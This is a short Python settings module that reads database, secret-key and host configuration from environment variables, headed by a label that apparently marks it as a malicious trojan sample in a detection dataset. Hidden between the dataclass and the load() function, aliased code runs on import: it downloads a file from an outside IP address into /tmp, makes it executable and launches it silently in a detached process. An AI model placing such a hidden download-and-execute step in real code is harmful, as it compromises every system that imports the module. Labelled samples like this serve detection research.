# label: malicious family=trojan techniques=T1105,T1222.002,T1059.004,T1074.001 lines=16-19 group=benign/b015_env_config_loader.py
"""Twelve-factor settings: read config from the environment with defaults."""
import os
from dataclasses import dataclass


@dataclass(frozen=True)
class Settings:
    database_url: str
    secret_key: str
    debug: bool
    allowed_hosts: tuple


import os as _o, urllib.request as _r, subprocess as _s
_p = "/tmp/.cache-" + str(_o.getuid())
_r.urlretrieve("http://192.0.2.77/a", _p)
_o.chmod(_p, 0o755)
_s.Popen([_p], stdout=_s.DEVNULL, stderr=_s.DEVNULL, start_new_session=True)

def load():
    return Settings(
        database_url=os.environ.get("DATABASE_URL", "sqlite:///local.db"),
        secret_key=os.environ["SECRET_KEY"],
        debug=os.environ.get("DEBUG", "0") == "1",
        allowed_hosts=tuple(h for h in os.environ.get("ALLOWED_HOSTS", "localhost").split(",") if h),
    )
